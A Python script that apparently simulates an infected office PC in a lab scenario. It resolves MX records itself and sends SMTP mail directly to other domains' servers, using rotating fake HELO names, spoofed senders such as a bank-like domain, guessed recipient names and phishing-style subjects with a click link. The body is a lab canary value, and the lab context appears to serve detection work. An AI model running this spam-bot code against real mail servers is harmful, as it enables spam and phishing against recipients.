#!/usr/bin/env python3
"""The infected PC of the office scene: looks up MX records itself and speaks SMTP straight to the
servers of others, with a greeting and a sender that change all the time. Same choices for each run.

usage: bot.py RESOLVER DOMAIN...
"""

import os
import random
import socket
import struct
import sys
import time

HELO = ["WXPANNA", "PANNA-3F2A9B", "[192.168.7.108]", "user-pc", "localhost", "WIN-4QK7E1"]
SENDERS = ["bluewidget.example", "parcel-desk.example", "winprize.example", "yourbank.example"]
PEOPLE = ["info", "sales", "marek", "petra78", "jsmith", "office", "zuzana.k", "tomas", "hr-dept"]
SUBJECTS = ["Your parcel is waiting", "Invoice 88213", "You have won", "Account notice"]


def name(text):
    labels = text.encode().split(b".")
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def skip_name(packet, at):
    while packet[at]:
        if packet[at] >= 0xC0:
            return at + 2
        at += packet[at] + 1
    return at + 1


def read_name(packet, at):
    labels = []
    while packet[at]:
        if packet[at] >= 0xC0:
            at = struct.unpack_from(">H", packet, at)[0] & 0x3FFF
            continue
        labels.append(packet[at + 1 : at + 1 + packet[at]].decode())
        at += packet[at] + 1
    return ".".join(labels)


def ask(resolver, host, kind, chance):
    """The first answer of a kind (1: A, 15: MX) for a host, or None."""
    query = struct.pack(">6H", chance.randrange(65536), 0x100, 1, 0, 0, 0)
    query += name(host) + struct.pack(">2H", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as dns:
        dns.settimeout(3)
        dns.sendto(query, (resolver, 53))
        packet = dns.recv(4096)
    at = skip_name(packet, 12) + 4
    for _ in range(struct.unpack_from(">H", packet, 6)[0]):
        at = skip_name(packet, at)
        found, _, _, size = struct.unpack_from(">HHIH", packet, at)
        at += 10
        if found == kind:
            return socket.inet_ntoa(packet[at : at + 4]) if kind == 1 else read_name(packet, at + 2)
        at += size
    return None


class Refused(Exception):
    pass


def reply(lines):
    while True:
        line = lines.readline()
        if not line:
            raise Refused("closed")
        if line[3:4] != b"-":
            return int(line[:3])


def say(lines, text):
    lines.write(text.encode() + b"\r\n")
    lines.flush()
    return reply(lines)


def deliver(address, domain, chance):
    sender = f"{chance.choice(PEOPLE)}{chance.randrange(100)}@{chance.choice(SENDERS)}"
    with socket.create_connection((address, 25), timeout=20) as tcp:
        lines = tcp.makefile("rwb")
        if reply(lines) != 220:
            return
        say(lines, f"HELO {chance.choice(HELO)}")
        say(lines, f"MAIL FROM:<{sender}>")
        taken = 0
        for person in chance.sample(PEOPLE, 4):
            taken += say(lines, f"RCPT TO:<{person}@{domain}>") == 250
        if taken and say(lines, "DATA") == 354:
            body = os.environ["lab_canary"]
            subject = chance.choice(SUBJECTS)
            say(lines, f"From: <{sender}>\r\nSubject: {subject}\r\n\r\n{body}\r\n"
                f"Click http://198.18.99.80/{chance.randrange(10000)}\r\n.")
        if chance.random() < 0.6:
            say(lines, "QUIT")


def main():
    resolver, domains = sys.argv[1], sys.argv[2:]
    chance = random.Random(7)
    for domain in domains:
        host = ask(resolver, domain, 15, chance)
        address = host and ask(resolver, host, 1, chance)
        try:
            if address:
                deliver(address, domain, chance)
        except (Refused, OSError) as why:
            print(f"{domain}: {why}", file=sys.stderr)
        time.sleep(1.3 + 2.2 * chance.random())


main()
